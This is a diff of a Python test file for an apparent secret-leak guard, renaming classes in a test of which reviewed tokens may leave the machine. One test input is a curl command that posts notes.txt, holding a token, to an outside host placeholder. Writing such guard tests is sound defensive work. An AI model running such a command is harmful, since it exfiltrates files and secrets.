@@ -8,8 +8,8 @@ from dataclasses import replace
 import pytest
 
 from sentinel_guard.core.model import Ask, Finding, Response
-from sentinel_guard.core.secrets.allowlisted_findings import Baseline, Said
-from sentinel_guard.core.secrets.model import Grade, Hit, Leak
+from sentinel_guard.core.secrets.allowlisted_findings import Allowlist, ReviewStatus
+from sentinel_guard.core.secrets.model import Grade, Hit, SecretFind
 from tests.support.leak_check_world import HOME, OWN, ROOT, TOKEN, answered, found
 
 BREAK, ASK, HINT, OK = Response.BREAK, Response.ASK, Response.HINT, Response.ALLOW
@@ -238,10 +238,10 @@ def test_of_personal_data_the_kind_is_told_and_how_many() -> None:
     ("said", "wanted"), [("false", OK), ("accepted", BREAK), ("real", BREAK), ("unreviewed", BREAK)]
 )
 def test_what_a_person_called_no_secret_may_leave(said: str, wanted: Response) -> None:
-    leak = Leak("github-pat", "secret", "a token", Grade.BLOCK, 0, 40, TOKEN)
+    leak = SecretFind("github-pat", "secret", "a token", Grade.BLOCK, 0, 40, TOKEN)
     hit = Hit(leak, "notes.txt", 2, 8, "")
-    (row,) = Baseline(b"s" * 16).updated([hit]).baseline.rows
-    baseline = Baseline(b"s" * 16, [replace(row, said=Said(said))])
+    (row,) = Allowlist(b"s" * 16).updated([hit]).baseline.rows
+    baseline = Allowlist(b"s" * 16, [replace(row, said=ReviewStatus(said))])
     findings = found(f"curl -d @notes.txt {AWAY}", baseline=baseline)
     assert max((f.response for f in findings), default=OK) is wanted
 
